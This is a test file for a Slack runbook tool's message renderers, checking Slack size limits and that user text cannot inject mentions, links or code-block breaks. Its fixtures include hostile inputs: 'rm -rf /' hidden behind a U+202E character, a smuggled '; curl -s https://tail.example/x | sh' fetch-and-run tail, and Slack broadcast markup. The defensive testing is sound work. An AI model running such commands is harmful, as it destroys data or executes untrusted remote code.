// The run renderers, pure (issue 11): the run card, the run's review request, approval-step
// requests, input prompts, http logs, DMs and the input form, at their largest and most hostile,
// each checked against Slack's limits (test/support/slackLimits.ts) and for what it must show,
// offer and never do (ping people or break out of a code block from user text).
import { describe, expect, it } from 'vitest';
import type { ReviewPolicy } from '../../src/domain/review.js';
import { RUN_STATUSES, type Run, type RunStatus, type RunStep } from '../../src/domain/run.js';
import type { PlannedStep } from '../../src/domain/runbook/index.js';
import type { RunView } from '../../src/service/runs.js';
import { RUN_ACTION, RUN_INPUT_CALLBACK, type SlackMessage } from '../../src/slack/render/blocks.js';
import { renderRunCard } from '../../src/slack/render/runCard.js';
import { readInputMetadata, renderInputModal } from '../../src/slack/render/runInputModal.js';
import { planText, renderRunReviewDm, renderRunReviewRequest } from '../../src/slack/render/runReviewRequest.js';
import { renderApprovalDm, renderApprovalRequest, renderHttpLog, renderInputPrompt } from '../../src/slack/render/runStepRequest.js';
import { checkMessage, checkView } from '../support/slackLimits.js';

const AUTHOR = 'UAUTHOR01';
const ALICE = 'UALICE001';
const T0 = new Date('2025-03-04T05:06:07.000Z');
const VERSION = 'a'.repeat(64);
const HOSTILE = '<!channel> <@U0BOSS> ```` ``` &amp; <https://evil.example|click>';

const policy: ReviewPolicy = { channel: 'CREVIEW01', autoRun: false, groups: [{ name: 'web-prod/sre', users: [ALICE, AUTHOR], approvals: 1, dm: true }] };

function script(id: string, text: string, target = 'web-prod'): PlannedStep {
  return {
    id,
    runbook: 'deploy',
    stepId: id.split('.')[1]!,
    name: null,
    continueOnFailure: false,
    kind: 'script',
    script: { target, script: text, type: 'bash', with: [{ name: 'TICKET', value: '${{ steps.why.ticket }}' }] },
  };
}
const http: PlannedStep = {
  id: 'deploy.health',
  runbook: 'deploy',
  stepId: 'health',
  name: null,
  continueOnFailure: false,
  kind: 'http',
  http: {
    url: 'https://status.example/health?t=${{ steps.why.ticket }}',
    method: 'POST',
    headers: [{ name: 'Authorization', value: 'Bearer ${{ secrets.TOKEN }}' }],
    body: { note: HOSTILE },
    compress: false,
    timeoutMs: 10_000,
    successStatus: [200],
    successPattern: '"ok":\\s*true',
    target: 'web-prod',
  },
};
const approval: PlannedStep = {
  id: 'deploy.go',
  runbook: 'deploy',
  stepId: 'go',
  name: null,
  continueOnFailure: false,
  kind: 'approval',
  approval: { users: [ALICE, 'UBOB00001'], usergroup: 'S0OPS', approvals: 1, timeoutMs: null, channel: null, dm: true },
};
const input: PlannedStep = {
  id: 'deploy.why',
  runbook: 'deploy',
  stepId: 'why',
  name: null,
  continueOnFailure: false,
  kind: 'input',
  input: {
    fields: [
      { name: 'ticket', kind: 'input', pattern: 'INC-[0-9]+', required: true, label: HOSTILE },
      { name: 'mode', kind: 'options', options: ['ok', 'fail'] },
    ],
    from: null,
    timeoutMs: 60_000,
  },
};

function stepRow(planned: PlannedStep, index: number, phase: RunStep['phase'], extra: Partial<RunStep> = {}): RunStep {
  return {
    id: index + 1,
    runId: 7,
    groupIndex: index,
    position: 0,
    stepId: planned.id,
    kind: planned.kind,
    phase,
    continueOnFailure: false,
    values: null,
    output: null,
    failureMessage: null,
    taskId: planned.kind === 'script' ? 100 + index : null,
    runnerId: null,
    leaseUntil: null,
    timeoutAt: null,
    messageChannel: null,
    messageTs: null,
    decidedBy: null,
    startedAt: phase === 'pending' ? null : T0,
    finishedAt: null,
    ...extra,
  };
}

function viewOf(groups: PlannedStep[][], status: RunStatus, phases: Array<RunStep['phase']> = [], runExtra: Partial<Run> = {}): RunView {
  const planned = groups.flat();
  const run: Run = {
    id: 7,
    createdAt: T0,
    statusChangedAt: T0,
    status,
    creator: AUTHOR,
    trigger: { kind: 'manual' },
    reference: 'deploy',
    runbookHash: 'b'.repeat(64),
    plan: { reference: 'deploy', runbooks: ['deploy'], groups, targets: ['web-prod'], contentVersion: VERSION },
    arguments: {
      deploy: [
        { name: 'mode', kind: 'options', value: HOSTILE },
        { name: 'secret', kind: 'fixed', value: 'hunter2' },
      ],
    },
    contentVersion: VERSION,
    message: HOSTILE,
    desiredPhase: null,
    stopRequestedBy: null,
    statusVersion: 1,
    viewVersion: 1,
    channelId: 'CTASKS01',
    cardTs: null,
    reviewChannel: 'CREVIEW01',
    reviewTs: null,
    reviewScriptPosted: false,
    runAfter: null,
    parentRunId: null,
    failureMessage: null,
    startedAt: null,
    finishedAt: null,
    ...runExtra,
  };
  const steps = planned.map((p, i) => stepRow(p, i, phases[i] ?? 'pending'));
  return { run, steps, decisions: [], review: null, stepDecisions: {} };
}

const small = [[input], [http], [approval], [script('deploy.a', 'systemctl restart web'), script('deploy.b', 'echo b', 'web-b')]];

function expectWithinLimits(message: SlackMessage): void {
  for (const method of ['chat.postMessage', 'chat.update'] as const) expect(checkMessage(message, method), method).toBeNull();
}

/** No mention, broadcast or link can come from user text: every `<` in the blocks is ours. */
function expectNoInjectedMarkup(message: SlackMessage): void {
  const text = JSON.stringify(message.blocks);
  expect(text).not.toContain('<!channel>');
  expect(text).not.toContain('<@U0BOSS>');
  expect(text).not.toContain('<https://evil.example');
}

const buttons = (message: SlackMessage) =>
  message.blocks.flatMap((b) => (b.type === 'actions' ? b.elements.map((e) => ('action_id' in e ? e.action_id : '')) : []));

describe('the run card', () => {
  it('offers the one button each status allows, and stays within Slack limits with hostile text', () => {
    for (const status of RUN_STATUSES) {
      const card = renderRunCard(viewOf(small, status), { policy, logUrl: (id) => `https://cs.example/tasks/${id}` });
      expectWithinLimits(card);
      expectNoInjectedMarkup(card);
      const expected = ['pending-review', 'approved'].includes(status)
        ? [RUN_ACTION.cancel]
        : ['ready', 'running'].includes(status)
          ? [RUN_ACTION.kill]
          : ['success', 'failure', 'killed', 'rejected', 'cancelled'].includes(status)
            ? [RUN_ACTION.again]
            : [];
      expect(buttons(card), status).toEqual(expected);
    }
  });

  it('a run waiting out its grace offers Cancel; one being stopped offers nothing', () => {
    const grace = renderRunCard(viewOf(small, 'ready', [], { runAfter: new Date(T0.getTime() + 60_000) }), { policy: null, now: T0.getTime() });
    expect(buttons(grace)).toEqual([RUN_ACTION.cancel]);
    expect(JSON.stringify(grace.blocks)).toContain('at the earliest');
    const stopping = renderRunCard(viewOf(small, 'running', [], { desiredPhase: 'stopped' }), { policy: null });
    expect(buttons(stopping)).toEqual([]);
    expect(JSON.stringify(stopping.blocks)).toContain('stopping');
  });

  it("shows every step's state, its failure message (escaped) and its log", () => {
    const view = viewOf(small, 'failure', ['succeeded', 'succeeded', 'paused', 'failed', 'skipped']);
    view.steps[3]!.failureMessage = `exit code 1 ${HOSTILE}`;
    view.steps[4]!.failureMessage = 'not started';
    const text = JSON.stringify(renderRunCard(view, { policy: null, logUrl: (id) => `https://cs.example/tasks/${id}` }).blocks);
    expect(text).toContain('`[deploy.why]` input: done');
    expect(text).toContain('paused for approval* (0/1)');
    expect(text).toMatch(/:x: `\[deploy\.a\]` script on `web-prod`: \*failed\* — exit code 1 &lt;!channel&gt;/);
    expect(text).toContain('<https://cs.example/tasks/103|log>');
    expect(text).toContain(':fast_forward: `[deploy.b]`');
  });

  it('a run of 200 huge steps fits, saying how many more there are', () => {
    const many = Array.from({ length: 200 }, (_, i) => [script(`deploy.s${i}-${'x'.repeat(60)}`, 'y'.repeat(5000))]);
    const card = renderRunCard(
      viewOf(
        many,
        'running',
        many.map(() => 'failed'),
      ),
      { policy, logUrl: (id) => `https://cs.example/tasks/${id}?sig=${'z'.repeat(200)}` },
    );
    expectWithinLimits(card);
    expect(JSON.stringify(card.blocks)).toContain('more steps');
  });
});

describe('the run review request', () => {
  it('shows every step in full with how it runs, hides fixed values, and binds Approve to the content version', () => {
    const view = viewOf(small, 'pending-review');
    const request = renderRunReviewRequest(view, policy);
    expect(request.planClipped).toBe(false);
    expectWithinLimits(request);
    expectNoInjectedMarkup(request);
    const text = JSON.stringify(request.blocks);
    expect(text).toContain('Runs as *bash* on `web-prod`');
    expect(text).toContain('systemctl restart web');
    expect(text).toContain('POST https://status.example/health?t=${{ steps.why.ticket }}');
    expect(text).toContain('Authorization: Bearer ${{ secrets.TOKEN }}');
    expect(text).toContain(':raised_hand: Approval: 1 of <@UALICE001>, <@UBOB00001>, <!subteam^S0OPS>');
    expect(text).toContain('`ticket` matching');
    expect(text).toContain('•••');
    expect(text).not.toContain('hunter2');
    expect(buttons(request)).toEqual([RUN_ACTION.approve, RUN_ACTION.reject]);
    const approve = request.blocks
      .flatMap((b) => (b.type === 'actions' ? b.elements : []))
      .find((e) => 'action_id' in e && e.action_id === RUN_ACTION.approve) as { value: string };
    expect(approve.value).toBe(`7:${VERSION}`);
    expect(buttons(renderRunReviewRequest(viewOf(small, 'approved'), policy))).toEqual([]);
  });

  it('points out hidden characters in a step', () => {
    const sneaky = [[script('deploy.a', 'echo ok\u202E; rm -rf /')]];
    const text = JSON.stringify(renderRunReviewRequest(viewOf(sneaky, 'pending-review'), policy).blocks);
    expect(text).toContain('invisible or direction-changing characters (first: U+202E on line 1)');
  });

  it('stays within 50 blocks when every one of 25 steps has hidden characters', () => {
    const sneaky = Array.from({ length: 25 }, (_, i) => [script(`deploy.s${i}`, `echo ${i}\u202E`)]);
    const request = renderRunReviewRequest(viewOf(sneaky, 'pending-review'), policy);
    expectWithinLimits(request);
    expect(JSON.stringify(request.blocks)).toContain('The step deploy.s0 contains invisible or direction-changing characters');
  });

  it('a plan too big to show is clipped within limits and whole in planText, which the thread gets', () => {
    const many = Array.from({ length: 40 }, (_, i) => [script(`deploy.s${i}`, `${'line with ``` and <@U0BOSS>\n'.repeat(300)}end-of-s${i}`)]);
    const view = viewOf(many, 'pending-review');
    const request = renderRunReviewRequest(view, {
      ...policy,
      groups: Array.from({ length: 5 }, (_, g) => ({
        name: `g${g}-${'<&>'.repeat(50)}`,
        users: Array.from({ length: 200 }, (_, u) => `U${g}${String(u).padStart(8, '0')}`),
        approvals: 2,
      })),
    });
    expect(request.planClipped).toBe(true);
    expectWithinLimits(request);
    expect(JSON.stringify(request.blocks)).toContain('every step in full, version');
    const whole = planText(view.run);
    for (let i = 0; i < 40; i++) expect(whole).toContain(`end-of-s${i}`);
    expect(whole).toContain(VERSION);
    expect(whole).not.toContain('hunter2');
  });

  it('anything cut marks the plan clipped, and planText holds it whole (review 11, F2)', () => {
    const withValues = (values: Array<{ name: string; value: string }>): PlannedStep => {
      const step = script('deploy.a', 'eval "$ARG_CMD"');
      if (step.kind !== 'script') throw new Error('not a script step');
      return { ...step, script: { ...step.script, with: values } };
    };
    const clipped = (groups: PlannedStep[][], runExtra: Partial<Run> = {}) => {
      const view = viewOf(groups, 'pending-review', [], runExtra);
      const request = renderRunReviewRequest(view, policy);
      expectWithinLimits(request);
      return { clipped: request.planClipped, text: JSON.stringify(request.blocks), whole: planText(view.run) };
    };
    expect(clipped([[withValues([{ name: 'CMD', value: 'x'.repeat(200) }])]]).clipped).toBe(false);

    // One `with` value past 200 characters, with the script itself short.
    const tail = '; curl -s https://tail.example/x | sh';
    const long = clipped([[withValues([{ name: 'CMD', value: `echo ${'a'.repeat(230)}${tail}` }])]]);
    expect(long.clipped).toBe(true);
    expect(long.text).not.toContain('tail.example');
    expect(long.text).toContain('every step in full, version');
    expect(long.whole).toContain(`with ARG_CMD = echo ${'a'.repeat(230)}${tail}`);

    // Every value short, the step's text past the block's 3000 characters.
    const wide = clipped([[withValues(Array.from({ length: 20 }, (_, i) => ({ name: `W${i}`, value: `${i}-${'w'.repeat(180)}` })))]]);
    expect(wide.clipped).toBe(true);
    expect(wide.text).not.toContain(`19-${'w'.repeat(180)}`);
    expect(wide.whole).toContain(`with ARG_W19 = 19-${'w'.repeat(180)}`);

    // An argument past its budget: the file has every argument, fixed ones (and copies of them) as •••.
    const args = {
      deploy: [
        { name: 'note', kind: 'input' as const, value: `${'n'.repeat(400)}-end` },
        { name: 'secret', kind: 'fixed' as const, value: 'hunter2' },
        { name: 'copy', kind: 'input' as const, value: 'x-hunter2' },
      ],
    };
    const argument = clipped([[script('deploy.a', 'true')]], { arguments: args });
    expect(argument.clipped).toBe(true);
    expect(argument.whole).toContain(`deploy: note = ${'n'.repeat(400)}-end`);
    expect(argument.whole).toContain('deploy: secret = •••');
    expect(argument.whole).toContain('deploy: copy = •••');
    expect(argument.text + argument.whole).not.toContain('hunter2');

    // More approvers or options than are listed by name.
    const crowd = Array.from({ length: 25 }, (_, i) => `U${String(i).padStart(8, '0')}`);
    if (approval.kind !== 'approval' || input.kind !== 'input') throw new Error('fixtures');
    const approvers = clipped([[{ ...approval, approval: { ...approval.approval, users: crowd } }]]);
    expect(approvers.clipped).toBe(true);
    expect(approvers.whole).toContain(crowd[24]);
    const options = Array.from({ length: 12 }, (_, i) => `opt${i}`);
    const choices = clipped([[{ ...input, input: { ...input.input, fields: [{ name: 'pick', kind: 'options', options }] } }]]);
    expect(choices.clipped).toBe(true);
    expect(choices.whole).toContain('one of opt0, opt1, opt2, opt3, opt4, opt5, opt6, opt7, opt8, opt9, opt10, opt11');
  });

  it('the review DM links to the request and escapes the reason', () => {
    const dm = renderRunReviewDm(viewOf(small, 'pending-review').run, ['web-prod/sre'], 'https://fake.slack/archives/C1/p1');
    expectWithinLimits(dm);
    expectNoInjectedMarkup(dm);
    expect(JSON.stringify(dm.blocks)).toContain('<https://fake.slack/archives/C1/p1|Open the review request>');
  });
});

describe('step messages', () => {
  it('an approval request names its approvers and offers Approve / Reject while paused, the outcome after', () => {
    const view = viewOf(small, 'running', ['succeeded', 'succeeded', 'paused']);
    const step = view.steps[2]!;
    const open = renderApprovalRequest(view, step, approval as Extract<PlannedStep, { kind: 'approval' }>);
    expectWithinLimits(open);
    expectNoInjectedMarkup(open);
    expect(JSON.stringify(open.blocks)).toContain('1 of <@UALICE001>, <@UBOB00001>, <!subteam^S0OPS>');
    expect(buttons(open)).toEqual([RUN_ACTION.stepApprove, RUN_ACTION.stepReject]);
    const rejected = { ...step, phase: 'failed' as const, failureMessage: `rejected by <@${ALICE}>: ${HOSTILE}` };
    view.stepDecisions[step.id] = [{ userId: ALICE, verdict: 'reject', reason: HOSTILE, at: T0 }];
    const closed = renderApprovalRequest(view, rejected, approval as Extract<PlannedStep, { kind: 'approval' }>);
    expect(buttons(closed)).toEqual([]);
    expectNoInjectedMarkup(closed);
    expect(JSON.stringify(closed.blocks)).toContain(`rejected by <@${ALICE}>`);
    expectWithinLimits(renderApprovalDm(view.run, step, 'https://fake.slack/archives/C1/p2'));
  });

  it("an input prompt offers Provide input while paused; its form has the fields, within a modal's limits", () => {
    const view = viewOf(small, 'running', ['paused']);
    const prompt = renderInputPrompt(view, view.steps[0]!, input as Extract<PlannedStep, { kind: 'input' }>);
    expectWithinLimits(prompt);
    expectNoInjectedMarkup(prompt);
    expect(buttons(prompt)).toEqual([RUN_ACTION.input]);
    expect(
      buttons(renderInputPrompt(view, { ...view.steps[0]!, phase: 'succeeded', decidedBy: AUTHOR }, input as Extract<PlannedStep, { kind: 'input' }>)),
    ).toEqual([]);
    const modal = renderInputModal(7, 'deploy', input as Extract<PlannedStep, { kind: 'input' }>);
    expect(checkView(modal)).toBeNull();
    expect(modal.callback_id).toBe(RUN_INPUT_CALLBACK);
    expect(modal.blocks.filter((b) => b.type === 'input').map((b) => b.block_id)).toEqual(['arg:ticket', 'arg:mode']);
    expect(readInputMetadata(modal.private_metadata)).toEqual({ runId: 7, stepId: 'deploy.why' });
    expect(readInputMetadata('{"runId":"7; drop"}')).toBeNull();
    const huge = {
      ...input,
      input: {
        ...(input as Extract<PlannedStep, { kind: 'input' }>).input,
        fields: Array.from({ length: 200 }, (_, i) => ({
          name: `f${i}`,
          kind: 'input' as const,
          required: false,
          label: 'L'.repeat(5000),
          hint: 'H'.repeat(5000),
          pattern: 'p'.repeat(3000),
        })),
      },
    } as Extract<PlannedStep, { kind: 'input' }>;
    expect(checkView(renderInputModal(7, 'x'.repeat(500), huge))).toBeNull();
  });

  it('an http log is one message within limits, whatever the body', () => {
    const step = { ...stepRow(http, 1, 'failed'), output: `${HOSTILE}\n`.repeat(5000), values: { http: { status: 500, body: '' } }, failureMessage: HOSTILE };
    const log = renderHttpLog(step);
    expectWithinLimits(log);
    expectNoInjectedMarkup(log);
    expect(log.text).toContain('`[deploy.health]` http failed · status 500');
  });
});
